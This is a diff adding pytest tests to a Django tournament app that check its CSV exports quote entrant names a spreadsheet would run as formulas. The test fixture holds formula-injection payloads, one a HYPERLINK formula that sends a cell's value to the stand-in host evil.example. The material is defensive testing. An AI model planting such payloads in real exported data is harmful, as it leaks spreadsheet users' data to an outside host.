@@ -9,6 +9,7 @@ import json
 from urllib.parse import quote
 
 import pytest
+from django.core.management import call_command
 from django.db import connection
 from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
@@ -457,3 +458,60 @@ def test_a_players_page_costs_as_many_queries_for_a_big_tournament(client, varie
     assert queries(client, "player-tournaments", small) == queries(
         client, "player-tournaments", large
     )
+
+
+# -- what a spreadsheet opens ------------------------------------------------------------------
+
+HOSTILE = {  # an entrant's name that a spreadsheet would run as a formula
+    "Никита": '=HYPERLINK("http://evil.example/?x="&B2,"Eve")',
+    "Frank": "+1+1",
+    "Лев": "-2+3",
+    "Рита": "@SUM(A1)",
+}
+
+
+def renamed(value):
+    if isinstance(value, str):
+        return HOSTILE.get(value, value)
+    if isinstance(value, list):
+        return [renamed(item) for item in value]
+    if isinstance(value, dict):
+        return {key: renamed(item) for key, item in value.items()}
+    return value
+
+
+@pytest.fixture
+def hostile(db):
+    """The Фантан example with entrants named as formulas, scored by cards: negative
+    figures."""
+    doc = renamed(example("fantan-seven"))
+    doc["options"] = {"scoring": "cards"}
+    return import_text(json.dumps(doc))
+
+
+def assert_no_cell_is_a_formula(csv_text: str) -> None:
+    cells = [value for line in csv.reader(io.StringIO(csv_text)) for value in line]
+    for name in HOSTILE.values():
+        assert name not in cells  # as it came, it would run
+        assert f"'{name}" in cells  # quoted, the spreadsheet shows it as text
+    for value in cells:
+        assert not value.startswith(("=", "+", "@", "\t", "\r")), value
+        if value.startswith("-"):  # a number the app wrote stays a number
+            float(value)
+
+
+def test_names_a_spreadsheet_would_run_are_quoted_in_the_standings_and_sheets_csv(client, hostile):
+    standings = text(get(client, "tournament-standings-csv", hostile.key))
+    sheets = text(get(client, "tournament-sheets-csv", hostile.key))
+    for downloaded in (standings, sheets):
+        assert_no_cell_is_a_formula(downloaded)
+    assert any(value.startswith("-") for value in sheets.replace("\n", ",").split(","))
+    lines = list(csv.reader(io.StringIO(sheets)))
+    first = [renamed(name) for name in example("fantan-seven")["rounds"][0]["tables"][0]["players"]]
+    assert lines[1][3:7] == [f"'{n}" if n in HOSTILE.values() else n for n in first]
+
+
+def test_names_a_spreadsheet_would_run_are_quoted_in_the_standings_command_csv(hostile):
+    out = io.StringIO()
+    call_command("tournament", "standings", hostile.key, "--csv", stdout=out)
+    assert_no_cell_is_a_formula(out.getvalue())
